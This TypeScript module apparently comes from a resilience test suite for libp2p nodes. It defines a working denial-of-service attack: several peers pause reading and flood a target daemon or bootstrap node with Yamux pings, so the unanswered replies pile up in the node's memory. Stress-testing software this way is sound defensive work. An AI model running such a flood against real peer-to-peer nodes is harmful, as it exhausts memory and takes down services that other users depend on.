import type { Connection } from '@libp2p/interface';
import { stranger } from '../../harness/stranger.ts';
import { addressOf, crowd } from '../hostile/attack.ts';
import type { Attack } from '../hostile/attack.ts';

const AT_A_TIME = 4;

/** Yamux pings written in one go. */
const BURST = 500;

/** A ping that asks for an answer. */
const SYN = 1;

/** What of a connection of libp2p is not for everybody to see. */
interface Insides {
  muxer: { sendPing(id: number, flag: number): void };
  maConn: {
    pause(): void;
    writableNeedsDrain: boolean;
    addEventListener(name: 'drain', then: () => void): void;
  };
}

/** Pings of the multiplexer whose answers nobody takes: they would have to wait in the node's memory. */
export const attack: Attack = {
  name: 'pings whose answers are not read',
  against: ['daemon', 'bootstrap'],
  async run({ multiaddr }, options) {
    await using stack = new AsyncDisposableStack();
    await crowd(AT_A_TIME, options, async (turn) => {
      const peer = stack.use(
        await stranger({ ...options, from: addressOf(turn % AT_A_TIME), polite: false }),
      );
      const connection: Connection = await peer.dial(multiaddr);
      const { muxer, maConn } = connection as unknown as Insides;
      maConn.pause();
      for (let id = 0; connection.status === 'open' && !options.signal.aborted;) {
        for (let sent = 0; sent < BURST; sent++) muxer.sendPing(id++, SYN);
        options.count('pings', BURST);
        await new Promise((resolve) => setTimeout(resolve, maConn.writableNeedsDrain ? 10 : 1));
      }
    });
  },
};
